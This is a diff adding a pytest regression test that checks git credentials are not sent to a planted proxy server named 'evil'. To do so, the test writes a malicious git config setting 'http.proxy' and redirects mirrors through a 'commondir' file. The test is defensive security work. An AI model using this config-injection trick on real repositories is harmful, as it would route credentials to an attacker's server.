@@ -14,6 +14,7 @@ import pytest
 
 from tests.contract.projects import Garage, Project
 from tests.git.http_remote import HttpRemote
+from tests.git.repositories import git
 from tests.git.ssh_remote import SshRemote
 from tests.services import need
 
@@ -198,3 +199,26 @@ def test_git_sees_nothing_of_the_agents_environment_or_of_the_machines_configura
         assert "GIT_TERMINAL_PROMPT=0" in call
         assert "AGENT_" not in call
         assert f"HOME={Path.home()}\n" not in call
+
+
+def test_what_a_task_left_around_git_sends_the_credential_nowhere_else(
+    spied: Spied, http_remote: HttpRemote, tmp_path: Path
+) -> None:
+    """Settings beside the mirror, and in a folder above: each would send it by way of another server."""
+    http_remote.ways.accounts = {"mira": PASSWORD}
+    repository = http_remote.filled()
+    token = spied.token(http_remote.host, PASSWORD)
+    project = spied.cloned(http_remote.url(repository), credential_id=token)
+    repository.commit({"README": "new\n"})
+    with HttpRemote(tmp_path / "evil") as evil:
+        config = f"[core]\n\trepositoryformatversion = 0\n[http]\n\tproxy = http://{evil.host}\n"
+        git("init", "--quiet", "above", cwd=tmp_path)
+        (tmp_path / "above" / ".git" / "config").write_text(config)
+        shutil.copytree(tmp_path / "above" / ".git", spied.storage / ".git")
+        for mirror in (spied.storage / "mirrors").glob("*.git"):
+            (mirror / "commondir").write_text(f"{tmp_path}/above/.git\n")
+        task = project.pull()
+        shutil.rmtree(spied.storage / ".git")
+        assert evil.seen == []
+    assert task["status"] == "completed", spied.stack.log(task["id"])
+    assert project.checkout["commit"] == repository.head()
